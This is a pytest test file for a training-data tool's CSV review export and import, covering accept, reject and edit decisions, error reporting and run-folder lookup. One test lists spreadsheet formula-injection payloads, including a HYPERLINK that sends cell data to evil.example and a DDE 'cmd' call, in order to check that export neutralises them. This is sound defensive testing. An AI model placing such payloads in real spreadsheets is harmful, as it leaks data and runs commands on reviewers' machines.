"""Human review: export a run's survivors to CSV, import accept / reject / edit decisions."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from distill.cli import main
from distill.errors import InputError
from distill.evaluation.review import REVIEWED, export, import_decisions


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    run = tmp_path / "runs" / "r"
    run.mkdir(parents=True)
    answers, sft = [], []
    for i in range(3):
        answers.append({"id": f"a{i}", "prompt_id": f"q{i}", "answer": f"original {i}"})
        sft.append({"id": f"s{i}", "prompt": [{"role": "user", "content": f"question {i}"}],
                    "completion": [{"role": "assistant", "content": f"revision {i}"}],
                    "meta": {"answer_id": f"a{i}", "prompt_id": f"q{i}"}})
    for name, rows in (("answers.jsonl", answers), ("sft.jsonl", sft)):
        (run / name).write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return run


def test_export_then_import_accept_reject_edit(run_dir: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "review.csv"
    assert main(["review", str(run_dir), "--export", str(sheet)]) == 0
    rows = list(csv.DictReader(sheet.open(encoding="utf-8")))
    assert [(r["prompt"], r["original"], r["revision"]) for r in rows] == [
        (f"question {i}", f"original {i}", f"revision {i}") for i in range(3)]
    rows[0]["decision"], rows[1]["decision"] = "accept", "reject"
    rows[2]["decision"], rows[2]["edited"], rows[2]["note"] = "edit", "a better revision", "fixed a fact"
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert main(["review", str(run_dir), "--import", str(sheet)]) == 0
    reviewed = [json.loads(line) for line in (run_dir / REVIEWED).read_text().splitlines()]
    assert [r["id"] for r in reviewed] == ["s0", "s2"]
    assert reviewed[1]["completion"][0]["content"] == "a better revision"
    assert reviewed[1]["meta"]["review"] == "edit" and reviewed[1]["meta"]["review_note"] == "fixed a fact"


def test_undecided_rows_are_left_out_and_counted(run_dir: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "r.csv"
    export(run_dir, sheet)
    counts = import_decisions(run_dir, sheet)
    assert counts["undecided"] == 3 and (run_dir / REVIEWED).read_text() == ""


def test_bad_decisions_are_reported_by_line(run_dir: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "r.csv"
    sheet.write_text("id,decision,edited\ns0,maybe,\ns1,edit,\nzz,accept,\n", encoding="utf-8")
    with pytest.raises(InputError) as err:
        import_decisions(run_dir, sheet)
    text = str(err.value)
    assert f"{sheet}:2: decision 'maybe'" in text and f"{sheet}:3: decision 'edit' needs" in text
    assert f"{sheet}:4: id 'zz'" in text and not (run_dir / REVIEWED).exists()


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "'=already quoted", "''-twice", "'plain apostrophe", "x = 1"]


def test_export_neutralises_formulas_and_import_restores_the_exact_text(run_dir: Path, tmp_path: Path) -> None:
    from distill.evaluation.review import FORMULA_START

    rows = [{"id": f"s{i}", "prompt": [{"role": "user", "content": text}],
             "completion": [{"role": "assistant", "content": text}], "meta": {"answer_id": f"a{i}"}}
            for i, text in enumerate(FORMULAS)]
    (run_dir / "sft.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    (run_dir / "answers.jsonl").write_text("".join(json.dumps({"id": f"a{i}", "answer": text}) + "\n"
                                                   for i, text in enumerate(FORMULAS)), encoding="utf-8")
    sheet = tmp_path / "review.csv"
    export(run_dir, sheet)
    exported = list(csv.DictReader(sheet.open(encoding="utf-8", newline="")))
    cells = [r[c] for r in exported for c in ("id", "prompt", "original", "revision")]
    assert not [c for c in cells if c[:1] in FORMULA_START]  # no cell a spreadsheet would execute
    assert exported[0]["revision"] == "'" + FORMULAS[0] and exported[9]["revision"] == "x = 1"
    assert exported[6]["revision"] == "''=already quoted" and exported[8]["revision"] == "'plain apostrophe"
    for row in exported:  # the reviewer edits every row, pasting the exported revision back
        row["decision"], row["edited"] = "edit", row["revision"]
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(exported[0]))
        writer.writeheader()
        writer.writerows(exported)
    import_decisions(run_dir, sheet)
    reviewed = [json.loads(line) for line in (run_dir / REVIEWED).read_text().splitlines()]
    restored = [r["completion"][0]["content"] for r in reviewed]
    assert restored == [text.strip() for text in FORMULAS]  # an edit is stripped, as before


def test_an_id_twice_is_an_error_naming_both_lines(run_dir: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "r.csv"
    sheet.write_text("id,decision,edited\ns0,accept,\ns1,accept,\ns0,edit,other text\n", encoding="utf-8")
    with pytest.raises(InputError, match=f"{sheet}:4: duplicate id 's0' \\(first on line 2\\)"):
        import_decisions(run_dir, sheet)
    assert not (run_dir / REVIEWED).exists()


def _sft_run(folder: Path, revision: str) -> None:
    folder.mkdir(parents=True)
    row = {"id": "s0", "prompt": [{"role": "user", "content": "question"}],
           "completion": [{"role": "assistant", "content": revision}], "meta": {"answer_id": "a0", "prompt_id": "q0"}}
    (folder / "sft.jsonl").write_text(json.dumps(row) + "\n", encoding="utf-8")


def test_a_bare_name_means_the_run_under_runs_dir_even_when_a_folder_of_that_name_is_here(
        tmp_path: Path, monkeypatch) -> None:
    """`distill review q` reads runs/q/, never ./q/ (a name means RUNS_DIR/NAME; a path needs a slash)."""
    monkeypatch.chdir(tmp_path)
    _sft_run(tmp_path / "q", "the folder in the working directory")
    _sft_run(tmp_path / "runs" / "q", "the run under runs/")
    assert main(["review", "q", "--export", "by-name.csv"]) == 0
    assert [r["revision"] for r in csv.DictReader(open("by-name.csv", encoding="utf-8"))] == ["the run under runs/"]
    assert main(["review", "./q", "--export", "by-path.csv"]) == 0
    assert [r["revision"] for r in csv.DictReader(open("by-path.csv", encoding="utf-8"))] == [
        "the folder in the working directory"]


def test_a_bare_name_without_its_run_says_how_to_name_the_folder_here(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    _sft_run(tmp_path / "q", "here")
    assert main(["review", "q", "--export", "out.csv"]) == 2
    err = capsys.readouterr().err
    assert f"{Path('runs') / 'q'}: no such run folder" in err and "write ./q" in err
